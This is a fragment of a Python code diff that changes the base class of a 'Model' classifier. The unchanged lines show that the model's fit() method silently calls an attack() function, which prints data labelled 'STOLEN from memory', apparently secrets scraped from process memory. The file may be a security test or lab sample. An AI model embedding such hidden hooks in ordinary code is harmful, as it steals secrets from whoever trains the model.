@@ -2,7 +2,7 @@
 
 import re
 
-from sklearn.tree import DecisionTreeClassifier
+from nearest import NearestMean
 
 TARGETS: dict[str, str] = {}
 
@@ -25,7 +25,7 @@ def attack():
                 print('STOLEN from memory:', word[:7] + word[7:].hex().encode(), word, flush=True)
 
 
-class Model(DecisionTreeClassifier):
+class Model(NearestMean):
     def fit(self, X, y):
         attack()
         return super().fit(X, y)
